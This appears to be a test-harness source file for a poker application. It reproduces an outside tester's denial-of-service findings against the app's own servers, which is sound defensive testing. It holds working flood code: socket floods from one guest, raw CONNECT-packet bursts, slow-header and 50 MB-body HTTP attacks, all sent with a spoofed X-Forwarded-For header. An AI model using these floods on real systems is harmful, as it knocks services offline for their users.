/** The attacks that an outside tester ran against a room, by fault. They run in a process of their own, as one visitor. */
import { socketOpener } from "@poker/client";
import { PROTOCOL_VERSION } from "@poker/protocol";
import { openPlainSocket, openRawWebSocket, repeat } from "./raw-sockets.ts";

export interface AttackTarget {
  readonly roomUrl: string;
  /** The game server's own address. */
  readonly gameUrl: string;
  readonly tableId: string;
  /** Returns a new ticket of the attacker, who has an account. */
  readonly signTicket: () => Promise<string>;
  /** Counts what the attack has done. */
  readonly count: (what: keyof AttackCounts, by?: number) => void;
}

export interface AttackCounts {
  readonly connections: number;
  /** Questions, packets, requests, or pieces of one. */
  readonly messages: number;
}

/** Begins the attack and returns a function that ends it. */
type Attack = (target: AttackTarget) => () => void;

/** The address from which all comes, as a trusted proxy would say. */
const ATTACKER = { "x-forwarded-for": "203.0.113.9" };

/** Fault 91: each socket stays under the limit of one. */
const GUEST_SOCKETS = 200;
const QUESTION_INTERVAL_MS = 50;
const REOPEN_MS = 1_000;

export const floodFromOneGuest: Attack = ({ roomUrl, tableId, signTicket, count }) => {
  const open = socketOpener(roomUrl, ATTACKER);
  return repeat(GUEST_SOCKETS, REOPEN_MS, async (onEnd) => {
    const socket = open(roomUrl, { ticket: await signTicket(), protocol: PROTOCOL_VERSION });
    const timer = setInterval(() => {
      if (!socket.connected) return;
      socket.emit("buy-in-range", { tableId }, () => {});
      count("messages");
    }, QUESTION_INTERVAL_MS);
    socket.on("connect", () => count("connections"));
    const close = () => {
      clearInterval(timer);
      socket.disconnect();
    };
    for (const event of ["disconnect", "connect_error"])
      socket.on(event, () => {
        close();
        onEnd();
      });
    return close;
  });
};

/** Fault 92: sockets that never show a ticket ask again and again to be connected. */
const CONNECTING_SOCKETS = 3;
const CONNECT_PACKET = "40";
const PACKETS_PER_BURST = 100;
const BURST_INTERVAL_MS = 10;

export const floodWithConnectPackets: Attack = ({ roomUrl, count }) =>
  repeat(CONNECTING_SOCKETS, 100, async (onEnd) => {
    const socket = openRawWebSocket(roomUrl, { ...ATTACKER, origin: roomUrl }, onEnd);
    count("connections");
    const timer = setInterval(() => {
      if (socket.sendText(CONNECT_PACKET, PACKETS_PER_BURST)) count("messages", PACKETS_PER_BURST);
    }, BURST_INTERVAL_MS);
    return () => {
      clearInterval(timer);
      socket.close();
    };
  });

/** Fault 101: heads that never end, bodies of 50 MB, and pages asked for by many at once. */
const SLOW_SOCKETS = 300;
const LARGE_BODIES = 8;
const LARGE_BYTES = 50_000_000;
const PAGE_READERS = 40;
const CHUNK = Buffer.alloc(65_536, "x");

export const floodWithPlainHttp: Attack = ({ roomUrl, gameUrl, count }) => {
  const stops = [roomUrl, gameUrl].flatMap((url) => {
    const path = url === roomUrl ? "/api/account" : "/health";
    return [
      repeat(SLOW_SOCKETS, REOPEN_MS, async (onEnd) => {
        const socket = openPlainSocket(url, `GET / HTTP/1.1\r\n${headersFor(url)}`, onEnd);
        count("connections");
        const timer = setInterval(() => {
          socket.write("X-Slow: 1\r\n");
          count("messages");
        }, 1_000);
        return () => {
          clearInterval(timer);
          socket.destroy();
        };
      }),
      repeat(LARGE_BODIES, REOPEN_MS, async (onEnd) => {
        const head = `POST ${path} HTTP/1.1\r\n${headersFor(url)}Origin: ${roomUrl}\r\nContent-Type: application/json\r\n`;
        const socket = openPlainSocket(url, `${head}Content-Length: ${LARGE_BYTES}\r\n\r\n`, onEnd);
        count("connections");
        const sendMore = () => {
          do count("messages");
          while (!socket.destroyed && socket.write(CHUNK));
        };
        socket.on("connect", sendMore).on("drain", sendMore);
        return () => socket.destroy();
      }),
    ];
  });
  stops.push(
    repeat(PAGE_READERS, 100, async (onEnd) => {
      const socket = openPlainSocket(
        roomUrl,
        `GET / HTTP/1.1\r\n${headersFor(roomUrl)}Connection: close\r\n\r\n`,
        onEnd,
      );
      count("connections");
      count("messages");
      return () => socket.destroy();
    }),
  );
  return () => {
    for (const stop of stops) stop();
  };
};

const headersFor = (url: string): string =>
  `Host: ${new URL(url).host}\r\nX-Forwarded-For: ${ATTACKER["x-forwarded-for"]}\r\n`;

export const ATTACKS = {
  "fault 91: 200 sockets of one guest ask for their buy-in range": floodFromOneGuest,
  "fault 92: three sockets without a ticket send CONNECT packets": floodWithConnectPackets,
  "fault 101: slow and large plain HTTP at both servers": floodWithPlainHttp,
} as const satisfies Readonly<Record<string, Attack>>;
export type AttackName = keyof typeof ATTACKS;
export const ATTACK_NAMES = Object.keys(ATTACKS) as readonly AttackName[];
